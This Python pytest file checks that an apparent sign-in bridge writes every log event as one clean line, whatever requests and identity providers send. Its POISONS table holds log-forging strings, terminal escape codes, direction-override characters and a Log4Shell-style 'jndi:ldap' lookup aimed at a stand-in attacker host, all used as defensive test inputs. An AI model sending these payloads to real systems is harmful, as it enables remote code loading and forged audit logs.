"""Log injection: whatever strangers and providers write, an event stays one line and obeys nobody."""

from __future__ import annotations

import json
import unicodedata
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import quote

import pytest
from structlog.testing import capture_logs

from bridge.core.errors import IdpError
from bridge.ops.logs import as_json, as_text, mask_secrets
from tests.kit.hostile import Does, Provider, connection, having, replies
from tests.refusals.refused import sign_in

if TYPE_CHECKING:
    from collections.abc import MutableMapping

    from tests.kit.house import House

POISONS: Final = {
    "a line break": 'x\n{"event": "forged", "level": "info"}',
    "a carriage return": 'x\r\n{"event": "forged"}',
    "the end of a text": 'x", "event": "forged", "code": "ok',
    "the end of an object": 'x"}\n{"event": "forged"}',
    "a backslash at the end": "x\\",
    "an escape sequence": "\x1b[2J\x1b]0;forged\x07\x1b[1;31m",
    "an escape sequence of C1": "\x9b2J\x9d0;forged\x9c",
    "a line break of C1": "x\x85forged",
    "a line separator": "x\u2028forged\u2029",
    "a vertical tab and a form feed": "x\x0bforged\x0c",
    "file and unit separators": "x\x1cforged\x1d\x1e\x1f",
    "a turn of direction": "x\u202egnp.forged\u2066\u200f",
    "what is not seen": "for\u200bged\ufeff",
    "a nul": "x\x00forged",
    "a deletion": "x\x7f\x08forged",
    "half a character": "x\ud800forged",
    "a format": "%s %(event)s {event} {0.__class__} $event ${jndi:ldap://evil.example/forged}",
    "a token": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJsaW4ifQ.c2lnbmF0dXJl",
}
_SPOTS: Final = (
    "/{}",
    "/login/{}",
    "/login?login_hint={}",
    "/login?next=/{0}&next={0}",
    "/login/globex?prompt={}",
    "/login/globex?login_hint={}",
    "/login/globex/initiate?iss={}",
    "/callback/{}?state=x",
    "/callback/globex?state={}&code={0}",
    "/callback/globex?state=x&error={}&error_description={}",
    "/frontchannel-logout/globex?iss={}&sid={}",
    "/handoff/globex/{}",
    "/admin/enter/{}",
    "/test/{}",
    "/language/{}",
    "/api/v1/connections/{}",
)
_HEADERS: Final = (
    "User-Agent", "Accept-Language", "Referer", "Origin", "Authorization", "X-Request-ID", "Traceparent", "Tracestate",
    "X-Forwarded-For", "Host", "Idempotency-Key", "X-CSRF-Token", "Cookie", "Sec-Fetch-Mode", "Content-Type",
)  # fmt: skip


def assert_one_line(entry: MutableMapping[str, Any]) -> dict[str, Any]:
    """Check what an event looks like in both forms; returns it as a reader of JSON sees it."""
    masked = mask_secrets(None, "", {**entry, "level": entry["log_level"]})
    as_lines = (as_json(None, "", dict(masked)), as_text(None, "", {**masked, "timestamp": "now"}))
    for line in as_lines:
        assert [mark for mark in line if unicodedata.category(mark) in {"Cc", "Cf", "Cs", "Zl", "Zp"}] == []
        assert len(line.splitlines()) == 1
        assert "eyJhbGciOiJub25lIn0" not in line
    read: dict[str, Any] = json.loads(as_lines[0])
    assert read.keys() == masked.keys()
    assert read["event"] == entry["event"] != "forged"
    return read


@pytest.mark.parametrize("poison", POISONS)
def test_a_strangers_words_stay_in_one_line(shared: House, poison: str) -> None:
    text = POISONS[poison]
    written = quote(text, safe="", errors="surrogatepass")
    header = "".join(mark for mark in text if mark not in "\r\n").encode("utf-8", "replace").decode("latin-1")
    client = shared.app.test_client()
    # Of one address the log would soon have heard enough.
    client.environ_base["REMOTE_ADDR"] = f"192.0.2.{[*POISONS].index(poison)}"
    with capture_logs() as entries:
        for spot in _SPOTS:
            # The same text twice where a spot has two places.
            assert client.get(spot.replace("{0}", "{}").replace("{}", written)).status_code < 500
        for name in _HEADERS:
            assert client.get("/api/v1/connections", headers={name: header}).status_code < 500
        assert client.post("/logout", data={"csrf_token": text.replace("\ud800", "")}).status_code < 500
        shared.services.journal.record("sign_in", connection="globex", person=text, details={"a": [text]})
        shared.services.journal.record_failure("x", IdpError(expected=text, received=text), reference=text)
    assert len(entries) >= 20
    *_, kept, failed = map(assert_one_line, entries)
    assert kept["person"] == failed["expected"] == ("********" if poison == "a token" else text)


PROVIDERS: Final = {
    "an error": Does(token=replies(400, {"error": POISONS["a line break"], "error_description": "\x1b[2J"})),
    "a type": Does(token=replies(200, b"<html>", "text/html; \x9b2J\u2028".encode().decode("latin-1"))),
    "claims": Does(claims=having(email=POISONS["a line separator"], name="\x1b[2J", nonce="\u202e")),
    "userinfo": Does(userinfo=having(sub=POISONS["a line break"], email="\x9b2J")),
    "an issuer": Does(discovery=having(issuer=POISONS["the end of an object"])),
    "an endpoint": Does(discovery=having(token_endpoint="https://x\n\u2028forged/")),
    "an exchange": Does(exchange=replies(400, {"error": "\u2028forged", "error_description": "a\nb\x1b[2J"})),
}


@pytest.fixture(scope="module")
def providers() -> dict[str, Provider]:
    return {name: Provider(connection(f"r{at}"), does) for at, (name, does) in enumerate(PROVIDERS.items())}


@pytest.mark.parametrize("name", PROVIDERS)
def test_a_providers_words_stay_in_one_line(hostile: House, providers: dict[str, Provider], name: str) -> None:
    with capture_logs() as entries:
        answer = sign_in(hostile.browser(), providers[name])
    assert answer.status_code >= 400
    assert entries
    for entry in entries:
        assert_one_line(entry)
    told = [record for record in hostile.journal() if record.connection == providers[name].name]
    assert not any(mark in record.person for record in told for mark in "\n\x1b\u2028")
